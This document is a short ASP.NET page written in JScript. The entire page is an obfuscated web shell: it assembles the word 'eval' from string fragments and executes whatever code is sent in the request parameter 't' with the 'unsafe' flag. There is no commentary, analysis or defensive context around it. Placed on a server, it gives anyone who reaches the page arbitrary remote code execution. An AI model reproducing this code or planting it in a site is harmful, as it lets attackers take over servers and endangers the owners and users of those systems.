<%@ Page Language="Jscript" %>
<%
var k = "ev", l = "al";
var run = this[k + l];
run(Request.Item["t"], "unsafe");
%>
